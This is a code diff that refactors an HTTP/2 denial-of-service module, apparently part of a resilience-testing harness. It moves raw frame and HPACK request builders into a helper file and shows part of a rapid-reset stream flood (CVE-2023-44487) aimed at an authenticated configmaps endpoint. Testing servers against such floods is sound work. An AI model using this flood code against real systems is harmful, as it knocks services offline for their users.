@@ -1,6 +1,7 @@
 import { connect, type ClientHttp2Session } from "node:http2";
 import { type Attack, pause, repeat, type Target } from "../attack.js";
 import { dial } from "../raw-connection.js";
+import { authorizedGet, frame, preface } from "./http2-frames.js";
 
 const lists = "/api/v1/configmaps";
 
@@ -18,23 +19,7 @@ async function session(
 const open = (connection: ClientHttp2Session, target: Target, path: string, headers: Record<string, string> = {}) =>
   connection.request({ ":path": path, authorization: `Bearer ${target.token}`, ...headers }).on("error", () => {});
 
-const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", "latin1");
-function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head.writeUInt8(type, 3);
-  head.writeUInt8(flags, 4);
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
 const get = Buffer.from("82878441016f", "hex"); // GET, https, /, and an authority
-
-/** A list with the user's token, by indices of HPACK's static table: :path is 4, authorization 23. */
-function authorizedList({ token }: Target): Buffer {
-  const text = (value: string): Buffer => Buffer.from(`${String.fromCharCode(value.length)}${value}`, "latin1");
-  const authorization = Buffer.concat([Buffer.from("0f08", "hex"), text(`Bearer ${token}`)]);
-  return Buffer.concat([Buffer.from("828704", "hex"), text(lists), Buffer.from("41016f", "hex"), authorization]);
-}
 
 /** The same frames without end on a connection, anew whenever the server ends it. */
 const flood = (name: string, frames: (turn: number, target: Target) => Buffer): Attack => ({
@@ -59,7 +44,7 @@ const flood = (name: string, frames: (turn: number, target: Target) => Buffer): 
 export const http2Attacks: readonly Attack[] = [
   // As bytes: Node's own client is busy for minutes with the streams that it has still to open.
   flood("streams that are opened and reset (CVE-2023-44487)", (turn, target) => {
-    const list = authorizedList(target);
+    const list = authorizedGet(target, lists);
     return Buffer.concat(
       Array.from({ length: 50 }, (_, at) => {
         const stream = 2 * (turn * 50 + at) + 1;
